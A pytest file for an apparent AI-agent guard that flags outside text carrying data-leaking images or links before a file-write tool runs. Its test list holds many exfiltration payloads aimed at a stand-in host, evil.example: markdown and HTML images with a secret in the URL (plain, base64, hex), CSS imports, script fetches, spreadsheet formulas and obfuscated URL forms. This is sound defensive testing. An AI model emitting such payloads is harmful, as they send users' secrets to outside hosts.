"""An image or a link in outside text that would carry something out is no content like any other: a person decides."""

from base64 import b64encode

import pytest

from openbook.guard.capability import Capability
from openbook.guard.carried import carried
from openbook.guard.labelled import Labelled, tainted
from openbook.guard.policy import ArgumentRule, Decision, Policy, ToolRule, decide
from openbook.values import TRUSTED, Json, Label

WRITE = Capability("write_file", frozenset(["writes"]), frozenset(["text"]))
FREE = Policy(effects={"reads": "allow", "writes": "allow"})
SECRET = "The launch code is 7431."
PICTURE = f"![logo](https://evil.example/l.png?d={SECRET.replace(' ', '%20')})"


def decision(
    text: Json, policy: Policy = FREE, capability: Capability = WRITE, *, control: Label = TRUSTED
) -> Decision:
    return decide(capability, {"text": tainted(text, "read_file")}, control, policy)


@pytest.mark.parametrize(
    "text",
    [
        PICTURE,
        f'<img src="https://evil.example/l.png?d={SECRET}">',
        f"![x](https://evil.example/l.png?d={b64encode(SECRET.encode()).decode()})",
        f"![x](https://evil.example/l.png?d={SECRET.encode().hex()})",
        "[more](https://evil.example/?q={notes})",
        "![logo][r]\n\n[r]: https://evil.example/l.png",
        "![a [b] c](https://evil.example/l.png)",
        "![a \\[ b](https://evil.example/l.png)",
        "![x](\nhttps://evil.example/l.png)",
        f"![{'x' * 3_000}](https://evil.example/l.png)",
        "![x](&#104;ttps://evil.example/l.png)",
        "![x](https\\://evil.example/l.png)",
        "![x](file://evil.example/l.png)",
        "`<img src=https://evil.example/l.png>`",
        "<style>body{background:url(https://evil.example/l.png)}</style>",
        "body { background: url(https://evil.example/l.png) }",
        "@import 'https://evil.example/l.css';",
        "<svg><image href='https://evil.example/l.png'/></svg>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/l.png'>",
        "<script>fetch('https://evil.example/l.png')</script>",
        "<base href='https://evil.example/'><img src='l.png'>",
        "<p onmouseover='x()'>https://evil.example</p>",
        "<p style='x'>https://evil.example</p>",
        ".. image:: https://evil.example/l.png",
        '=IMAGE("https://evil.example/l.png")',
        'rent,=WEBSERVICE("https://evil.example/l.png")',
        "![build](https://evil.example/pypi/v/x?style=flat-square)",  # none can tell what its path says
        "![logo](https:evil.example/l.png)",
        "![logo](https://evil.example/The-launch-code-is-7431.png)",
        "![logo](//evil.example/l.png)",
        "![logo](HTTP://evil.example/l.png)",
        "<IMG SRC=' https://evil.example/l.png'>",
        {"rows": [{"note": f"see {PICTURE}"}]},
    ],
)
def test_it_is_asked_about_with_a_reason_that_says_what_was_found(text: Json) -> None:
    found = decision(text)
    assert (found.action, found.argument, found.by_hand) == ("ask", "text", True)
    assert "evil.example" in found.reason
    assert "read_file" in found.reason
    assert "\n" not in found.reason


@pytest.mark.parametrize(
    "text",
    [
        "See [the guide](https://docs.example.org/guide.html#install) and https://example.org.",
        "[search](https://example.org/search?q=the+long+way+home+from+the+station)",
        "![map](/pictures/the%20old%20map%20of%20the%20town.png)",
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
        "![plan](plans/ground%20floor.png) and [more](https://example.org/plans)",
        "<p>See <a href='https://example.org/a' title='A'>this</a>, <b>please</b>.</p>",
        "An autolink: <https://example.org/guide>; 3 < 4; a -> b; x <- y.",
        "- see https://example.org (for 2,000 = 2 * 1,000)",
        "nothing // at all",
        "`" * 200_000 + "//",
        12,
        None,
    ],
)
def test_ordinary_links_and_images_are_content(text: Json) -> None:
    assert carried(text) == ""
    assert decision(text) == Decision("allow")


def test_what_the_request_says_itself_and_what_only_looks_is_not_looked_at() -> None:
    assert decide(WRITE, {"text": Labelled(PICTURE)}, TRUSTED, FREE).action == "allow"
    assert (
        decision(PICTURE, capability=Capability("count", frozenset(["reads"]), frozenset(["text"]))).action == "allow"
    )


def test_a_refusal_stays_one_and_a_question_tells_of_the_image_first() -> None:
    assert decision(PICTURE, Policy(effects={"writes": "refuse"})).action == "refuse"
    assert decision(PICTURE, control=Label(frozenset(["page"]))).action == "refuse"
    asking = Policy(effects={"writes": "ask"}, tainted="ask")
    found = decision(PICTURE, asking, control=Label(frozenset(["page"])))
    assert found.by_hand
    assert "evil.example" in found.reason


def test_a_rule_that_allows_the_tool_or_calls_it_content_does_not_cover_it() -> None:
    rule = ToolRule("allow", {"text": ArgumentRule(content=True)})
    assert decision(PICTURE, Policy(tools={"write_file": rule})).by_hand
    listed = ToolRule("allow", {"text": ArgumentRule(one_of=(PICTURE,))})
    assert decision(PICTURE, Policy(tools={"write_file": listed})).action == "allow"
